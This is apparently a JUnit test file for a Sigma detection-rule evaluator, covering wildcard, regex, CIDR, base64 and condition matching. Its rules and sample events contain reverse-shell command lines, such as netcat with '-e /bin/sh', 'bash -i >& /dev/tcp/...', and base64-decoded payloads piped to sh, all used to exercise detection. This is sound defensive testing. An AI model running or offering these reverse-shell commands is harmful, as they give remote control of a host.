package io.chirp.detect.eval;

import io.chirp.detect.Detection;
import io.chirp.detect.Detector;
import io.chirp.detect.LogSource;
import io.chirp.detect.RuleProblem;
import io.chirp.detect.SigmaEvent;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class EvaluatorTest {
    private static final LogSource PROC = LogSource.linux("process_creation");

    /** A one-rule detector over a detection block (indented by 4). */
    private static CompiledRule rule(String detection) {
        String yaml = "title: t\nid: t1\nlogsource: {category: process_creation, product: linux}\ndetection:\n"
                + detection.stripIndent().indent(4);
        Detector d = Detector.fromYaml(yaml, "t.yml");
        assertThat(d.problems()).isEmpty();
        return d.rules().getFirst();
    }

    private static String problem(String detection) {
        String yaml = "title: t\nid: t1\nlogsource: {category: process_creation, product: linux}\ndetection:\n"
                + detection.stripIndent().indent(4);
        List<RuleProblem> p = Detector.fromYaml(yaml, "t.yml").problems();
        assertThat(p).hasSize(1);
        return p.getFirst().reason();
    }

    private static SigmaEvent ev(Object... kv) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) m.put((String) kv[i], kv[i + 1]);
        return SigmaEvent.of(PROC, m);
    }

    @Test void plainValuesAreCaseInsensitiveWholeValueMatches() {
        CompiledRule r = rule("sel:\n  Image: /usr/bin/NC\ncondition: sel");
        assertThat(r.matches(ev("Image", "/usr/bin/nc"))).isTrue();
        assertThat(r.matches(ev("Image", "/usr/bin/nc2"))).isFalse();
        assertThat(r.matches(ev("Other", "/usr/bin/nc"))).isFalse();
    }

    @Test void wildcardsAndEscapes() {
        CompiledRule r = rule("sel:\n  CommandLine: 'a*b?c'\ncondition: sel");
        assertThat(r.matches(ev("CommandLine", "aXYZbQc"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "abQc"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "abc"))).isFalse();
        assertThat(r.matches(ev("CommandLine", "aXbQcd"))).isFalse();
        CompiledRule esc = rule("sel:\n  CommandLine: 'a\\*b\\?\\\\*'\ncondition: sel");
        assertThat(esc.matches(ev("CommandLine", "a*b?\\tail"))).isTrue();
        assertThat(esc.matches(ev("CommandLine", "aXb?\\tail"))).isFalse();
        CompiledRule backslash = rule("sel:\n  Image: 'C:\\Windows\\x'\ncondition: sel");
        assertThat(backslash.matches(ev("Image", "c:\\windows\\X"))).isTrue();
    }

    @Test void containsStartsWithEndsWithAll() {
        assertThat(rule("sel:\n  CommandLine|contains: ' -e '\ncondition: sel").matches(ev("CommandLine", "nc 1.2.3.4 80 -e /bin/sh"))).isTrue();
        assertThat(rule("sel:\n  CommandLine|startswith: 'nc '\ncondition: sel").matches(ev("CommandLine", "ncat x"))).isFalse();
        assertThat(rule("sel:\n  Image|endswith: ['/nc', '/ncat']\ncondition: sel").matches(ev("Image", "/bin/ncat"))).isTrue();
        CompiledRule all = rule("sel:\n  CommandLine|contains|all: ['-e', '/bin/sh']\ncondition: sel");
        assertThat(all.matches(ev("CommandLine", "nc -e /bin/sh"))).isTrue();
        assertThat(all.matches(ev("CommandLine", "nc -e /bin/bash"))).isFalse();
    }

    @Test void casedMakesMatchingCaseSensitive() {
        CompiledRule r = rule("sel:\n  CommandLine|contains|cased: 'AbC'\ncondition: sel");
        assertThat(r.matches(ev("CommandLine", "xAbCx"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "xabcx"))).isFalse();
    }

    @Test void mapsAreAndListsOfMapsAreOr() {
        CompiledRule r = rule("sel:\n  - Image|endswith: /nc\n    CommandLine|contains: ' -e '\n  - Image|endswith: /socat\ncondition: sel");
        assertThat(r.matches(ev("Image", "/bin/nc", "CommandLine", "nc -e x"))).isTrue();
        assertThat(r.matches(ev("Image", "/bin/nc", "CommandLine", "nc -l"))).isFalse();
        assertThat(r.matches(ev("Image", "/usr/bin/socat"))).isTrue();
    }

    @Test void nullMeansAbsentAndExistsChecksPresence() {
        CompiledRule nul = rule("sel:\n  Image|endswith: /sh\n  ParentImage: null\ncondition: sel");
        assertThat(nul.matches(ev("Image", "/bin/sh"))).isTrue();
        assertThat(nul.matches(ev("Image", "/bin/sh", "ParentImage", "/init"))).isFalse();
        CompiledRule ex = rule("sel:\n  ParentImage|exists: true\ncondition: sel");
        assertThat(ex.matches(ev("ParentImage", "/init"))).isTrue();
        assertThat(ex.matches(ev("Image", "/init"))).isFalse();
        assertThat(rule("sel:\n  ParentImage|exists: false\ncondition: sel").matches(ev("Image", "/x"))).isTrue();
    }

    @Test void numbersBooleansAndComparisons() {
        assertThat(rule("sel:\n  DestinationPort: 4444\ncondition: sel").matches(ev("DestinationPort", 4444))).isTrue();
        assertThat(rule("sel:\n  Initiated: 'true'\ncondition: sel").matches(ev("Initiated", true))).isTrue();
        assertThat(rule("sel:\n  LogonId: 0\ncondition: sel").matches(ev("LogonId", "0"))).isTrue();
        CompiledRule gt = rule("sel:\n  DestinationPort|gte: 1024\n  ProcessId|lt: 100\ncondition: sel");
        assertThat(gt.matches(ev("DestinationPort", 1024, "ProcessId", 99))).isTrue();
        assertThat(gt.matches(ev("DestinationPort", 1023, "ProcessId", 99))).isFalse();
        assertThat(gt.matches(ev("DestinationPort", "high", "ProcessId", 99))).isFalse();
        assertThat(rule("sel:\n  UserId|gt: 0\ncondition: sel").matches(ev("UserId", 0.5))).isTrue();
    }

    @Test void multiValuedFieldsMatchAnyElement() {
        CompiledRule r = rule("sel:\n  Tags|contains: evil\ncondition: sel");
        assertThat(r.matches(ev("Tags", List.of("good", "very evil")))).isTrue();
        assertThat(r.matches(ev("Tags", List.of("good")))).isFalse();
    }

    @Test void regexIsCaseSensitiveUnlessFlaggedAndFoundAnywhere() {
        CompiledRule r = rule("sel:\n  CommandLine|re: 'bash -i >& /dev/tcp/[0-9.]+/[0-9]+'\ncondition: sel");
        assertThat(r.matches(ev("CommandLine", "sh -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "BASH -i >& /dev/tcp/10.0.0.1/4444"))).isFalse();
        assertThat(rule("sel:\n  CommandLine|re|i: '^BASH'\ncondition: sel").matches(ev("CommandLine", "bash -i"))).isTrue();
        assertThat(rule("sel:\n  CommandLine|re|m: '^b$'\ncondition: sel").matches(ev("CommandLine", "a\nb\nc"))).isTrue();
        assertThat(rule("sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel").matches(ev("CommandLine", "a\nb"))).isTrue();
        assertThat(rule("sel:\n  CommandLine|re: 'a.b'\ncondition: sel").matches(ev("CommandLine", "a\nb"))).isFalse();
    }

    @Test void catastrophicRegexIsCutOffNotHung() {
        CompiledRule r = rule("sel:\n  CommandLine|re: '^(a+)+$'\ncondition: sel");
        String hostile = "a".repeat(5_000) + "!";
        long t0 = System.nanoTime();
        assertThat(r.matches(ev("CommandLine", hostile))).isFalse();
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(5_000);
        FieldCondition.Values c = (FieldCondition.Values) r.search("sel").getFirst().getFirst();
        assertThat(((ValueMatcher.Regex) c.matchers().getFirst()).regex().aborted()).isEqualTo(1);
        assertThat(r.matches(ev("CommandLine", "aaaa"))).isTrue();
    }

    @Test void invalidRegexAndUnknownModifiersAreReported() {
        assertThat(problem("sel:\n  CommandLine|re: '(unclosed'\ncondition: sel")).contains("regex '(unclosed' is not valid");
        assertThat(problem("sel:\n  CommandLine|frobnicate: x\ncondition: sel")).contains("unknown modifier 'frobnicate'");
        assertThat(problem("sel:\n  CommandLine|expand: '%x%'\ncondition: sel")).contains("expand");
        assertThat(problem("sel:\n  CommandLine|contains|re: x\ncondition: sel")).contains("combines match modifiers");
        assertThat(problem("sel:\n  DestinationIp|cidr: 10.0.0.0/33\ncondition: sel")).contains("bad prefix");
        assertThat(problem("sel:\n  Image: x\ncondition: sel and filter")).contains("'filter', which the detection does not define");
        assertThat(problem("sel:\n  Image: x\ncondition: 1 of filter_*")).contains("matches no search identifier");
    }

    @Test void cidr() {
        CompiledRule r = rule("sel:\n  DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10', '192.168.1.7']\ncondition: sel");
        assertThat(r.matches(ev("DestinationIp", "10.200.3.4"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "11.0.0.1"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "fe80::1"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "2001:db8::1"))).isFalse();
        assertThat(r.matches(ev("DestinationIp", "192.168.1.7"))).isTrue();
        assertThat(r.matches(ev("DestinationIp", "example.org"))).isFalse();
        assertThat(rule("sel:\n  DestinationIp|cidr: 172.16.0.0/12\ncondition: sel").matches(ev("DestinationIp", "172.31.255.255"))).isTrue();
        assertThat(rule("sel:\n  DestinationIp|cidr: 172.16.0.0/12\ncondition: sel").matches(ev("DestinationIp", "172.32.0.0"))).isFalse();
    }

    @Test void base64AndBase64OffsetFindTheValueWhateverPrecedesIt() {
        CompiledRule b64 = rule("sel:\n  CommandLine|base64: 'bash -i'\ncondition: sel");
        assertThat(b64.matches(ev("CommandLine", Base64.getEncoder().encodeToString("bash -i".getBytes())))).isTrue();
        CompiledRule off = rule("sel:\n  CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel");
        for (String prefix : List.of("", "x", "xy", "bash -i >& ")) {
            String encoded = Base64.getEncoder().encodeToString((prefix + "/dev/tcp/1.2.3.4/80").getBytes(StandardCharsets.UTF_8));
            assertThat(off.matches(ev("CommandLine", "echo " + encoded + " | base64 -d | sh"))).as(prefix).isTrue();
        }
        String other = Base64.getEncoder().encodeToString("/dev/udp/1.2.3.4".getBytes());
        assertThat(off.matches(ev("CommandLine", other))).isFalse();
        CompiledRule wide = rule("sel:\n  CommandLine|wide|base64: 'ab'\ncondition: sel");
        assertThat(wide.matches(ev("CommandLine", Base64.getEncoder().encodeToString("ab".getBytes(StandardCharsets.UTF_16LE))))).isTrue();
    }

    @Test void windashAcceptsDashVariants() {
        CompiledRule r = rule("sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel");
        assertThat(r.matches(ev("CommandLine", "x /exec y"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "x \u2013exec y"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "x +exec y"))).isFalse();
    }

    @Test void fieldref() {
        CompiledRule r = rule("sel:\n  Image|fieldref: ParentImage\ncondition: sel");
        assertThat(r.matches(ev("Image", "/bin/sh", "ParentImage", "/BIN/SH"))).isTrue();
        assertThat(r.matches(ev("Image", "/bin/sh", "ParentImage", "/bin/bash"))).isFalse();
    }

    @Test void keywordsSearchEveryField() {
        CompiledRule r = rule("keywords:\n  - 'segfault'\n  - 'evil*thing'\ncondition: keywords");
        assertThat(r.matches(ev("Image", "/x", "CommandLine", "kernel: SEGFAULT at 0"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "an evil little thing!"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "benign"))).isFalse();
    }

    @Test void conditionsQuantifiersAndEvidence() {
        CompiledRule r = rule("""
                selection_img:
                  Image|endswith: /nc
                selection_cli:
                  CommandLine|contains: ' -e '
                filter_main_local:
                  CommandLine|contains: '127.0.0.1'
                _helper:
                  User: nobody
                condition: all of selection_* and not 1 of filter_main_*
                """);
        SigmaEvent hit = ev("Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 10.0.0.1 4444", "User", "bob");
        assertThat(r.matches(hit)).isTrue();
        assertThat(r.matches(ev("Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 127.0.0.1 4444"))).isFalse();
        assertThat(r.matches(ev("Image", "/usr/bin/nc", "CommandLine", "nc -l 4444"))).isFalse();
        Detection d = r.evaluate(hit).orElseThrow();
        assertThat(d.ruleId()).isEqualTo("t1");
        assertThat(d.selections()).containsExactly("selection_img", "selection_cli");
        assertThat(d.matched()).containsExactly(
                new Detection.MatchedField("selection_img", "Image|endswith", "/usr/bin/nc"),
                new Detection.MatchedField("selection_cli", "CommandLine|contains", "nc -e /bin/sh 10.0.0.1 4444"));

        CompiledRule them = rule("a:\n  Image: x\nb:\n  Image: y\n_c:\n  Image: z\ncondition: 1 of them");
        assertThat(them.matches(ev("Image", "y"))).isTrue();
        assertThat(them.matches(ev("Image", "z"))).as("'them' skips identifiers starting with _").isFalse();
        CompiledRule two = rule("a:\n  Image|contains: x\nb:\n  Image|contains: y\nc:\n  Image|contains: z\ncondition: 2 of them");
        assertThat(two.matches(ev("Image", "xz"))).isTrue();
        assertThat(two.matches(ev("Image", "x"))).isFalse();
        CompiledRule list = rule("a:\n  Image: x\nb:\n  Image: y\ncondition:\n  - a\n  - b");
        assertThat(list.matches(ev("Image", "y"))).isTrue();
    }

    @Test void rulesOnlyRunOnEventsOfTheirLogSource() {
        CompiledRule r = rule("sel:\n  Image|endswith: /nc\ncondition: sel");
        SigmaEvent net = SigmaEvent.of(LogSource.linux("network_connection"), Map.of("Image", "/bin/nc"));
        assertThat(r.matches(net)).isFalse();
        assertThat(r.evaluate(net)).isEmpty();
        SigmaEvent windows = SigmaEvent.of(new LogSource("process_creation", "windows", null), Map.of("Image", "/bin/nc"));
        assertThat(r.matches(windows)).isFalse();
    }

    @Test void globPatternEdgeCases() {
        assertThat(new GlobPattern(SigmaString.parse("*"), false).matches("")).isTrue();
        assertThat(new GlobPattern(SigmaString.parse(""), false).matches("")).isTrue();
        assertThat(new GlobPattern(SigmaString.parse(""), false).matches("a")).isFalse();
        assertThat(new GlobPattern(SigmaString.parse("ab*ba"), false).matches("aba")).isFalse();
        assertThat(new GlobPattern(SigmaString.parse("ab*ba"), false).matches("abba")).isTrue();
        assertThat(new GlobPattern(SigmaString.parse("*a?c*"), false).matches("xxabcxx")).isTrue();
        assertThat(new GlobPattern(SigmaString.parse("*a*a*a*"), false).matches("aa")).isFalse();
        assertThat(new GlobPattern(SigmaString.parse("?"), false).matches("")).isFalse();
    }
}
